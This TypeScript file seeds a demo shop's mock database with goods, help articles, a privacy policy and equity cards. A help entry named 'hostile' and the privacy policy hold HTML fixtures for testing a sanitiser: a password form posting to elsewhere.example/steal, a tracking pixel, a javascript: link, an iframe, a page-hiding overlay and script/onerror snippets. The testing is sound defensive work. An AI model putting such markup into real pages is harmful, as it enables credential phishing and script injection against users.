// The deterministic seed of one shop, from its profile: the PRNG is keyed by mall path and shop id (plus
// an optional salt), and every date is relative to `base`, the gateway clock when the shop was seeded.
import { PAGE, shopFacts } from '../../engine';
import type { MenuItem, ResolvedProfile, ShopProfile } from '../../engine';
import type { ManagedGoods } from '../../engine';
import { CATEGORY_TREE, DEFAULT_CUSTOM_PAGES, HELP_COLUMNS } from './catalogue';
import { createRandom } from './prng';
import type { Random } from './prng';
import { categoriesOf, goodsSeed, round2 } from './seed-goods';
import { seedAfterSales } from './seed-after-sales';
import { seedBalance } from './seed-balance';
import { seedBudgets } from './seed-budgets';
import { seedCollector } from './seed-collector';
import { seedInvoiceApplications } from './seed-invoice-applications';
import { seedInvoiceTitles } from './seed-invoices';
import { seedLegacyOrders } from './seed-legacy-orders';
import { seedShipments } from './seed-order-life';
import { seedStatements } from './seed-statements';
import { seedReviews } from './seed-reviews';
import { seedUsers } from './seed-users';
import { shopRules } from './shop-rules';
import { DAY } from './time';
import type { ShopDb } from './db';
import { emptyBudgetBook } from './db-budgets';

export { ACCOUNTS, DEMO_PASSWORD, GUEST_CODES, newUser } from './seed-accounts';

function menuItems(profile: ShopProfile): MenuItem[] {
  const walk = (items: MenuItem[] = []): MenuItem[] =>
    items.flatMap((item) => [item, ...walk(item.children)]);
  return Object.values(profile.menus ?? {}).flatMap((items) => walk(items));
}

/** Custom pages and help articles the profile's menus link to, as [id, title]. */
function linkedIds(profile: ShopProfile, route: string, param: string): [string, string][] {
  return menuItems(profile).flatMap((item) => {
    const path = item.path ?? '';
    if (!path.startsWith(route)) return [];
    const id = new URLSearchParams(path.split('?')[1] ?? '').get(param);
    return id ? [[id, item.title] as [string, string]] : [];
  });
}

function randomText(random: Random, length: number): string {
  const letters = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789';
  return Array.from({ length }, () => letters[random.int(0, letters.length - 1)]).join('');
}

function seedManaged(db: ShopDb, random: Random): void {
  const plan: [ManagedGoods['status'], Partial<ManagedGoods>][] = [
    ['draft', {}],
    ['draft', {}],
    ['onSale', {}],
    ['onSale', { restrictedRegions: ['1', '19'] }],
    ['onSale', { usesMallStock: true }],
    ['listed', {}],
    ['listed', { restrictedRegions: ['2'] }],
    ['stopped', {}],
    ['stopped', {}],
    ['pendingReview', {}],
    ['pendingReview', {}],
    ['rejected', {}],
    ['restrictionLifted', {}],
    ['onSale', { usesMallStock: true, restrictedRegions: ['4'] }],
  ];
  const pool = [...db.skus.values()].filter((sku) => /^G-\d/.test(sku.goodsCode));
  db.managed = plan.map(([status, extra], index) => {
    const sku = pool[(index * 3) % pool.length];
    const price = sku?.sellingPrice ?? 100;
    return {
      goodsSkuCode: `M-${String(index + 1).padStart(4, '0')}`,
      goodsName: sku?.goodsName ?? '供应商商品',
      status,
      restrictedRegions: [],
      usesMallStock: false,
      updateMode: index % 3 === 0 ? 'automatic' : 'manual',
      sellingPrice: price,
      officialPrice: round2(price * (0.95 + random.next() * 0.1)),
      ...extra,
    };
  });
}

function seedContent(db: ShopDb, random: Random): void {
  const { profile } = db.resolved;
  const name = profile.shop.name;
  const pageHtml = (title: string) =>
    `<h2>${title}</h2><p>欢迎来到${name}。本页面为演示内容，展示自定义页面的排版效果。</p><p><img src="/api/cdn/img/page-${encodeURIComponent(title)}.svg?w=800&h=240" alt="${title}" width="800" height="240"></p>`;
  for (const [id, title] of [
    ...Object.entries(DEFAULT_CUSTOM_PAGES),
    ...linkedIds(profile, PAGE.customPage, 'pageId'),
  ]) {
    db.pages.set(id, { title, html: pageHtml(title) });
  }
  let helpId = 100;
  for (const column of HELP_COLUMNS) {
    for (const [columnName] of column.columns) {
      helpId += 1;
      db.help.set(String(helpId), {
        id: String(helpId),
        columnName,
        content: `<h3>${columnName}</h3><p>${name}${columnName}说明：此为演示帮助内容。</p>`,
      });
    }
  }
  for (const [id, columnName] of linkedIds(profile, PAGE.helpCentre, 'id')) {
    db.help.set(id, {
      id,
      columnName,
      content: `<h3>${columnName}</h3><p>${name}${columnName}：此为演示帮助内容。</p>`,
    });
  }
  // Linked from no menu: the end-to-end test of the client's sanitiser opens it (helpCenter?id=hostile).
  db.help.set('hostile', {
    id: 'hostile',
    columnName: '安全测试',
    content:
      '<style>body{visibility:hidden}</style><p>安全测试正文</p>' +
      '<div style="position:fixed;inset:0;z-index:99999;background-color:red">遮罩</div>' +
      '<form action="https://elsewhere.example/steal"><input type="password" name="pw"><button>登录</button></form>' +
      '<img src="https://tracker.example/pixel.gif" alt="跟踪"><a href="javascript:alert(1)">点我</a>' +
      '<a href="https://elsewhere.example/">外站链接</a><iframe src="https://elsewhere.example/frame"></iframe>',
  });
  db.privacyPolicy = {
    privacyPolicyId: profile.shop.id * 10 + 1,
    privacyPolicyContent: [
      `<h2>${name}用户隐私协议</h2>`,
      `<p>欢迎使用${name}。我们重视您的个人信息和隐私保护，请您在使用前仔细阅读本协议。</p>`,
      '<h3>一、我们收集的信息</h3><p>为完成下单与配送，我们会收集您的收货人、手机号和收货地址。</p>',
      '<h3>二、信息的使用</h3><p>您的信息仅用于订单处理、售后服务与账户安全。</p>',
      // Harmless active content: the client's sanitiser must remove both.
      '<script>window.__demoPrivacyScriptRan = true;</script>',
      '<p><img src="/api/cdn/missing-image.png" onerror="window.__demoPrivacyOnerrorRan = true" alt="">如有疑问请联系客服。</p>',
    ].join(''),
  };
  if (shopFacts(profile).hasEquity) {
    const card = (id: number, cardName: string, colour: string, expiresIn: number, codes: string[]) => ({
      interestsCardId: id,
      interestsCardName: cardName,
      cardBackgroundValue: colour,
      expirationTime: db.base + expiresIn,
      description: `<p>${cardName}：持卡可兑换指定权益商品，有效期内可用。</p>`,
      goodsSkuCodes: codes,
    });
    db.equityCards = [
      card(profile.shop.id * 10 + 1, '年度体检权益卡', '#C9A063', 180 * DAY, ['G-0001-01', 'G-0004-01']),
      card(profile.shop.id * 10 + 2, '生日礼遇权益卡', '#6A5ACD', 30 * DAY, ['G-0007-01']),
      card(profile.shop.id * 10 + 3, '健身畅享权益卡', '#2E8B57', 3 * DAY, ['G-VIRTUAL-01']),
      card(profile.shop.id * 10 + 4, '已过期的观影权益卡', '#999999', -10 * DAY, []),
    ];
  }
  db.encryption = { aesKey: randomText(random, 16), aesIv: randomText(random, 16) };
}

/** Seeds one shop. `salt` varies the PRNG for tests that want other data. */
export function seedShop(resolved: ResolvedProfile, base: number, salt = ''): ShopDb {
  const { profile } = resolved;
  const random = createRandom(`${profile.shop.mallPath}#${profile.shop.id}#${salt}`);
  const pointsMode = shopRules(resolved, undefined).capabilities['price.mode'] === 'points';
  const db: ShopDb = {
    key: `${profile.shop.mallPath}#${profile.shop.id}`,
    resolved,
    base,
    pointsMode,
    skus: new Map(),
    categories: categoriesOf(CATEGORY_TREE),
    users: new Map(),
    sessions: new Map(),
    orders: [],
    legacyOrders: [],
    legacyAfterSales: [],
    reviews: [],
    afterSales: [],
    invoiceTitles: [],
    balanceLedger: [],
    statements: [],
    invoiceApplications: [],
    managed: [],
    equityCards: [],
    budgets: emptyBudgetBook(),
    pages: new Map(),
    help: new Map(),
    privacyPolicy: { privacyPolicyId: 0, privacyPolicyContent: '' },
    encryption: { aesKey: '', aesIv: '' },
    sequence: 1000,
  };
  goodsSeed(db, random, { price: (money) => (pointsMode ? Math.max(1, Math.round(money)) : round2(money)) });
  seedUsers(db);
  // After-sales adds orders that left the warehouse: the parcels are given after it, to those too.
  seedAfterSales(db);
  seedShipments(db);
  // After the orders and after-sales: the ledger pays the member's orders and takes its finished refunds.
  seedBalance(db);
  seedCollector(db);
  seedLegacyOrders(db);
  seedReviews(db);
  seedInvoiceTitles(db);
  // After the reviews: the member's seeded review stays on the oldest order of the users' seed.
  seedStatements(db);
  seedInvoiceApplications(db);
  seedManaged(db, random);
  seedBudgets(db);
  seedContent(db, random);
  return db;
}
